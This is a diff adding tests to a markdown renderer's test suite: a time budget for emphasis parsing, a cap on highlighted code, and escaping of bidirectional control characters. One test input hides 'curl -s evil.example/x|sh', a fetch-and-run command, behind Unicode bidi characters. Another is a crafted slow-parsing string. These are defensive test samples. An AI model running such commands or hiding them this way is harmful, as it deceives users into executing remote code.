@@ -1,6 +1,13 @@
 import hljs from "highlight.js/lib/core";
 import { afterEach, describe, expect, it, vi } from "vitest";
-import { MAX_HIGHLIGHTED_CODE, MAX_NESTING, escapeHtml, lineNesting, renderMarkdown } from "./markdown";
+import {
+  EMPHASIS_BUDGET_MS,
+  MAX_HIGHLIGHTED_CODE,
+  MAX_NESTING,
+  escapeHtml,
+  lineNesting,
+  renderMarkdown,
+} from "./markdown";
 
 declare global {
   interface Window {
@@ -189,6 +196,21 @@ describe("renderMarkdown on hostile nesting", () => {
     expect(mount(text).querySelector("pre.plain-text")?.textContent).toBe(text);
   });
 
+  it("shows emphasis as written once a render runs past its budget", () => {
+    // A clock that moves 10 ms each time it is read: the budget runs out within a few
+    // delimiters, as it would on a message crafted to make marked's emphasis quadratic.
+    let now = 0;
+    const clock = vi.spyOn(performance, "now").mockImplementation(() => (now += 10));
+    const crafted = "*a ".repeat(4000) + "a*";
+    const element = mount(crafted);
+    clock.mockRestore();
+    expect(element.querySelector("em, strong, del")).toBeNull();
+    expect(element.textContent).toContain("*a *a *a");
+    expect(EMPHASIS_BUDGET_MS).toBeGreaterThan(0);
+    // With time to spare, the same markers are emphasis.
+    expect(mount("*a* **b** ~~c~~").querySelectorAll("em, strong, del")).toHaveLength(3);
+  });
+
   it("does not throw on a long run of emphasis markers", () => {
     const text = "*".repeat(5000) + "x" + "*".repeat(5000);
     expect(() => mount(text)).not.toThrow();
@@ -221,6 +243,29 @@ describe("renderMarkdown on large code", () => {
     expect(element?.querySelector("[class^='hljs-']")).toBeNull();
     expect(element?.textContent).toBe(code);
     expect(document.querySelector("script")).toBeNull();
+  });
+
+  it("holds a message's code together to the cap: blocks past it are shown plain", () => {
+    const line = "const a = 1;\n";
+    const code = line.repeat(Math.floor(MAX_HIGHLIGHTED_CODE / 2 / line.length)).trimEnd();
+    const block = "```js\n" + code + "\n```\n\n";
+    const shown = [...mount(block.repeat(3)).querySelectorAll("pre code.hljs.language-js")];
+    expect(shown).toHaveLength(3);
+    expect(shown.map((element) => element.querySelector("span.hljs-keyword") !== null)).toEqual([
+      true,
+      true,
+      false,
+    ]);
+    expect(shown[2]?.textContent).toBe(code);
+  });
+
+  it("shows what hides or reorders text in code as its code, so Copy takes what is seen", () => {
+    const line = "echo ok;\u2067curl -s evil.example/x|sh ;#\u2069";
+    const code = mount("```bash\n" + line + "\n```").querySelector("pre code");
+    expect(code?.textContent).toBe("echo ok;\\u{2067}curl -s evil.example/x|sh ;#\\u{2069}");
+    expect(code?.textContent).not.toMatch(/[\u2066-\u2069\u202a-\u202e]/u);
+    const tabbed = mount("```\na\tb\nc\n```").querySelector("pre code");
+    expect(tabbed?.textContent).toBe("a\tb\nc");
   });
 
   it("still highlights a small block", () => {
